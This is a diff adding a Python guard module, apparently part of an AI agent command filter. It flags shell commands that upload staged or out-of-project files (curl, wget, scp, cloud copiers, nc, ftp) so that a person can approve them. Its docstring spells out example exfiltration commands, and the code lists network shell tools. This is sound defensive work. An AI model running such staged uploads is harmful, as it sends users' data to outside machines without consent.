@@ -1,0 +1,327 @@
+"""Tactic family ``file upload``: a file the guard cannot vouch for, sent to another machine.
+
+:mod:`.exfiltration` blocks an upload of what it can see is sensitive (a key, the
+home directory, ``/etc``, an archive of one of them). Attack scripts rarely name
+what they send: they stage it first and upload a name that is known only when the
+script runs, or a file in a temporary directory:
+
+- ``curl -F "data=@$archive" https://host/upload``, ``curl -T "$f" ftp://host/``,
+  ``curl -d @$(mktemp)``, ``find /tmp/stage -exec curl -F f=@{} …``;
+- ``curl --data-binary @/tmp/out.bin``, ``wget --post-file=/var/tmp/x``,
+  ``http -f POST host file@/tmp/x``, ``nc host 443 < /tmp/x.tgz``;
+- ``scp``/``rsync``/``sftp``, ``aws s3 cp``/``gsutil cp``/``rclone copy``/``azcopy``/
+  ``az storage blob upload``/``s3cmd put``, ``smbclient``/``ftp``/``lftp``/``tftp``
+  ``put``, ``gh gist create`` of such a file;
+- its bytes piped or spelled into the request: ``cat "$f" | curl -d @- …``,
+  ``-d "{\\"content\\": \\"$(base64 "$f")\\"}"``.
+
+Each is :data:`~agentbus.guards.verdict.UPLOAD`, asked by default (a person says
+whether the file may leave). A project file sent somewhere (``scp dist/app.tgz
+deploy@host:``, ``curl -F file=@coverage.xml https://codecov.io``), JSON written on
+the command line, ``git push`` and package publishing are not judged here.
+
+"Outside the project" is lexical: an absolute path outside the home directory
+(``/tmp``, ``/var``, ``/opt``, ``/Users/Shared``), a path that climbs out with
+``..``, or, once ``cd`` says where the command runs, any path outside that
+directory.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from ...lazy_regex import lazy_compile
+from ..findings import finding as _verdict
+from ..findings import piece as _piece
+from ..interpreters import fed_code
+from ..operands import operands
+from ..parse import Script
+from ..paths import normalize_path
+from ..programs import Invocation, walk
+from ..verdict import UPLOAD, Verdict
+from .exfiltration import sends_stdin
+
+__all__ = ["judge", "judge_script", "unseen_file"]
+
+
+def unseen_file(text: str, home: str, cwd: str | None) -> str | None:
+    """Describe a file sent away that the guard cannot vouch for, or None for a project file.
+
+    ``text`` is the word as written, substitutions shown (``$(ls -t /tmp/*)``): a
+    ``$`` left after the parser expanded what it could, or find's ``{}``, is a
+    name known only at run time.
+    """
+    if not text or text in ("-", ".") or _URL.match(text) or _DEVICE.match(text):
+        return None
+    text = _PWD.sub(".", text)
+    path = normalize_path(text, home=home, cwd=cwd)
+    if "$" in path or "`" in path or "{}" in path:
+        return f"{text}, a file named only at run time"
+    if path == ".." or path.startswith("../"):
+        return f"{text}, a file outside the project"
+    if not path.startswith("/"):
+        return None
+    home = home.rstrip("/")
+    if cwd is not None:
+        place = normalize_path(cwd, home=home).rstrip("/")
+        if path == place or path.startswith(place + "/"):
+            return None
+    elif path == home or path.startswith(home + "/"):
+        return None  # the project is somewhere in the home directory
+    return f"{path}, a file from outside the project"
+
+
+_URL = lazy_compile(r"^[A-Za-z][A-Za-z0-9+.-]*://")
+_DEVICE = lazy_compile(r"^/dev/(?!shm/)")
+_PWD = lazy_compile(r"^(?:\$PWD|\$\{PWD\}|\$\(pwd\))(?=/)")
+
+
+# -- what each program sends ----------------------------------------------------------------------
+
+_CURL_DATA = frozenset({"-d", "--data", "--data-binary", "--data-ascii", "--json", "--data-urlencode"})
+"""curl options whose value is sent, read from a file when it starts with ``@``."""
+_CURL_FORM = frozenset({"-F", "--form"})
+_CURL_UPLOAD = frozenset({"-T", "--upload-file"})
+_WGET_UPLOAD = frozenset({"--post-file", "--body-file"})
+_HTTPIE = frozenset({"http", "https", "xh", "xhs", "httpie", "curlie"})
+_HTTPIE_FILE = lazy_compile(r"^[^:=@]*(?::=@|=@|@)(.+)$")
+"""An HTTPie request item that reads a file: ``@body.json``, ``field@file`` (form), ``field=@file``."""
+_FORM_FILE = lazy_compile(r"^[^=]*=[@<]([^;]+)")
+_COPIERS = frozenset({"scp", "rsync", "sftp", "pscp"})
+_COPY_VALUES = frozenset({"--exclude", "--include", "-e", "--rsh", "--filter", "-f", "--exclude-from",
+                          "--include-from", "--files-from", "--chmod", "--chown", "--log-file", "-T",
+                          "--temp-dir", "--partial-dir", "--backup-dir", "--password-file", "--port",
+                          "-M", "-i", "-o", "-P", "-F", "-c", "-l", "-S", "-J", "--suffix",
+                          "--compare-dest", "--link-dest", "--copy-dest"})  # fmt: skip
+"""Options of scp, rsync and sftp that take the next word as their value."""
+_REMOTE = lazy_compile(r"^(?:[\w.+-]+@)?[\w.-]+:(?!//)|^[\w+.-]+://")
+_BUCKETS = {
+    # program: (verbs, how the destination is spelled)
+    "aws": ((("s3", "cp"), ("s3", "sync"), ("s3", "mv")), r"^s3://"),
+    "gsutil": ((("cp",), ("rsync",), ("mv",)), r"^(?:gs|s3)://"),
+    "gcloud": ((("storage", "cp"), ("storage", "rsync")), r"^(?:gs|s3)://"),
+    "rclone": ((("copy",), ("sync",), ("move",), ("copyto",), ("moveto",)), r"^[\w.-]+:(?!//)"),
+    "s3cmd": ((("put",), ("sync",)), r"^s3://"),
+    "azcopy": ((("copy",), ("cp",), ("sync",)), r"^https?://"),
+}
+"""Cloud storage copiers: the verbs that copy, and what a remote destination looks like."""
+_FILE_CLIENTS = frozenset({"sftp", "ftp", "lftp", "tftp", "smbclient", "ncftp", "psftp"})
+_PUT = lazy_compile(r"\b(?:put|mput|send|append|reput)\s+(\"[^\"]*\"|'[^']*'|\S+)")
+_SOCKETS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "cryptcat",
+                      "pwncat", "sbd", "ssh", "openssl"})  # fmt: skip
+_READERS = frozenset({"cat", "tac", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz",
+                      "zstd", "lz4", "tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "dd", "openssl", "gpg",
+                      "head", "tail", "pv", "cpio", "uuencode"})  # fmt: skip
+"""Programs whose output is the bytes of the files they are given (whole, packed or encoded)."""
+
+
+def _words(invocation: Invocation) -> list[str]:
+    """The arguments as written after expansion, a substitution shown as ``$(...)``."""
+    return [invocation.command.render(word) for word in invocation.args]
+
+
+def _following(words: list[str], index: int) -> str:
+    return words[index + 1] if index + 1 < len(words) else ""
+
+
+def _http_files(invocation: Invocation) -> Iterator[str]:
+    """The files an HTTP client sends: ``-F f=@FILE``, ``-d @FILE``, ``-T FILE``, ``--post-file``, ``f@FILE``."""
+    words = _words(invocation)
+    name = invocation.name
+    for index, word in enumerate(words):
+        option, equals, attached = word.partition("=") if word.startswith("--") else (word, "", "")
+        value = attached if equals else _following(words, index)
+        if name in _HTTPIE and not word.startswith("-"):
+            item = _HTTPIE_FILE.match(word)
+            if item is not None and not _URL.match(word):
+                yield item.group(1)
+            continue
+        if option in _CURL_UPLOAD or option in _WGET_UPLOAD:
+            yield value
+        elif option in _CURL_DATA:
+            if option == "--data-urlencode" and "@" in value and "=" not in value.split("@", 1)[0]:
+                yield value.split("@", 1)[1]
+            elif value.startswith("@"):
+                yield value[1:]
+        elif option in _CURL_FORM:
+            form = _FORM_FILE.match(value)
+            if form is not None:
+                yield form.group(1)
+        elif word.startswith("-") and not word.startswith("--") and len(word) > 2:
+            short, rest = word[:2], word[2:]  # curl -d@file, -Ffile=@x, -Tfile
+            if short == "-T":
+                yield rest
+            elif short == "-d" and rest.startswith("@"):
+                yield rest[1:]
+            elif short == "-F" and (form := _FORM_FILE.match(rest)) is not None:
+                yield form.group(1)
+
+
+def _stdin_file(invocation: Invocation) -> str | None:
+    """``nc host 443 < FILE``: the file a command that sends its input reads it from."""
+    if not sends_stdin(invocation) and invocation.name not in _HTTPIE:
+        return None
+    if invocation.name in _HTTPIE and "--ignore-stdin" in _words(invocation):
+        return None
+    command = invocation.command
+    for redirect in command.redirects:
+        if redirect.op == "<" and redirect.fd in ("", "0"):
+            return command.render(redirect.target)
+    return None
+
+
+def _copied_files(invocation: Invocation) -> list[str]:
+    """What ``scp``/``rsync``/``sftp`` or a cloud storage copier sends to a remote destination."""
+    words = _words(invocation)
+    name = invocation.name
+    if name in _COPIERS:
+        positionals = _positionals(words, _COPY_VALUES)
+        if len(positionals) >= 2 and _REMOTE.match(positionals[-1]):
+            return [p for p in positionals[:-1] if not _REMOTE.match(p)]
+        return []
+    bucket = _BUCKETS.get(name)
+    if bucket is not None:
+        verbs, remote = bucket
+        plain = [w for w in words if not w.startswith("-")]
+        for verb in verbs:
+            if tuple(plain[: len(verb)]) != verb:
+                continue
+            rest = plain[len(verb) :]  # sources, then the destination (option values may follow)
+            ends = [i for i, word in enumerate(rest) if re.match(remote, word)]
+            if ends and ends[-1] > 0:
+                return [p for p in rest[: ends[-1]] if not re.match(r"^[\w+.-]+://|^[\w.-]+:", p)]
+        return []
+    if name == "az" and words[:2] == ["storage", "blob"] or words[:2] == ["storage", "file"]:
+        wanted = ("--file", "-f") if words[2:3] == ["upload"] else ("--source", "-s")
+        return [_following(words, i) for i, w in enumerate(words) if w in wanted]
+    if name == "aws" and words[:2] == ["s3api", "put-object"]:
+        return [_following(words, i) for i, w in enumerate(words) if w == "--body"]
+    if name == "gh" and words[:2] in (["gist", "create"], ["release", "upload"]):
+        plain = [w for w in words[2:] if not w.startswith("-")]
+        return plain[1:] if words[0] == "release" else plain
+    if name == "ncftpput":
+        plain = [w for w in words if not w.startswith("-")]
+        return plain[2:]
+    return []
+
+
+def _put_files(invocation: Invocation, before: list[Invocation]) -> list[str]:
+    """``smbclient -c "put F"``, ``lftp -e "put F"``, ``tftp -c put F``, ``ftp <<EOF put F``: batch uploads."""
+    if invocation.name not in _FILE_CLIENTS:
+        return []
+    words = _words(invocation)
+    texts = [_following(words, i) for i, w in enumerate(words) if w in ("-c", "-e", "--command")]
+    if invocation.name == "tftp" and "-c" in words:
+        texts.append(" ".join(words[words.index("-c") + 1 :]))
+    texts += list(fed_code(invocation))
+    texts += [" ".join(_words(stage)) for stage in before if stage.name in ("echo", "printf")]
+    found = []
+    for text in texts:
+        for match in _PUT.finditer(text.replace("\\n", "\n")):
+            found.append(match.group(1).strip("'\""))
+    return found
+
+
+def _positionals(words: list[str], takes_value: frozenset[str]) -> list[str]:
+    found: list[str] = []
+    skip = False
+    for word in words:
+        if skip:
+            skip = False
+        elif word.startswith("-") and word != "-":
+            skip = word in takes_value
+        else:
+            found.append(word)
+    return found
+
+
+def _sent(invocation: Invocation, before: list[Invocation]) -> Iterator[str]:
+    """Every file ``invocation`` sends to another machine, as written."""
+    if invocation.name in _HTTP_CLIENTS:
+        yield from _http_files(invocation)
+    yield from _copied_files(invocation)
+    yield from _put_files(invocation, before)
+    stdin = _stdin_file(invocation)
+    if stdin is not None:
+        yield stdin
+    if invocation.name == "socat":
+        for operand in operands(invocation):
+            if operand.role == "file":
+                yield operand.value
+
+
+_HTTP_CLIENTS = _HTTPIE | {"curl", "wget", "wget2", "lwp-request", "POST", "PUT"}
+
+
+def _read_unseen(invocation: Invocation, home: str) -> str | None:
+    """What unseen file a reader (``cat "$f"``, ``base64 /tmp/x``, ``dd if=$IMG``) outputs, if any."""
+    if invocation.name not in _READERS:
+        return None
+    for operand in operands(invocation):
+        if operand.role in ("pattern", "output", "url"):
+            continue
+        value = operand.value.removeprefix("if=") if invocation.name == "dd" else operand.value
+        if invocation.name == "dd" and "=" in value:
+            continue  # bs=1M, count=1
+        what = unseen_file(_shown(invocation, value), home, invocation.cwd)
+        if what:
+            return what
+    return None
+
+
+_PLACEHOLDER = "\ue020"
+
+
+def _shown(invocation: Invocation, value: str) -> str:
+    return invocation.command.render(value) if _PLACEHOLDER in value else value
+
+
+def _encoded_in_request(invocation: Invocation, home: str) -> str | None:
+    """``curl -d "{\\"content\\": \\"$(base64 "$f")\\"}"``: an unseen file's bytes spelled into the request."""
+    for word in invocation.args:
+        for sub in invocation.command.substitutions_in(word):
+            for stages in walk(sub.script, cwd=invocation.cwd):
+                for stage in stages:
+                    what = _read_unseen(stage, home)
+                    if what:
+                        return what
+    return None
+
+
+# -- the judges ------------------------------------------------------------------------------------
+
+
+def judge(invocation: Invocation, home: str) -> Verdict | None:
+    """An upload, by ``invocation`` alone, of a file named at run time or from outside the project."""
+    if not invocation.name:
+        return None
+    for text in _sent(invocation, []):
+        what = unseen_file(text, home, invocation.cwd)
+        if what:
+            return _verdict(UPLOAD, invocation, f"{invocation.name} sends {what}, to another machine")
+    if invocation.name in _HTTP_CLIENTS:
+        what = _encoded_in_request(invocation, home)
+        if what:
+            return _verdict(
+                UPLOAD, invocation, f"{invocation.name} sends the bytes of {what}, to another machine"
+            )
+    return None
+
+
+def judge_script(script: Script, home: str) -> Verdict | None:
+    """In one pipeline, an unseen file read and piped to a program that sends its input away."""
+    for stages in walk(script):
+        source = None
+        for index, stage in enumerate(stages):
+            if index and source is not None and sends_stdin(stage):
+                text = " | ".join(" ".join(s.text.split()) for s in stages)
+                return Verdict(UPLOAD, _piece(text), f"pipes {source} to {stage.name}, to another machine")
+            if index:
+                for text in _put_files(stage, stages[:index]):
+                    what = unseen_file(text, home, stage.cwd)
+                    if what:
+                        line = " | ".join(" ".join(s.text.split()) for s in stages)
+                        return Verdict(UPLOAD, _piece(line), f"{stage.name} sends {what}, to another machine")
+            source = source or _read_unseen(stage, home)
+    return None
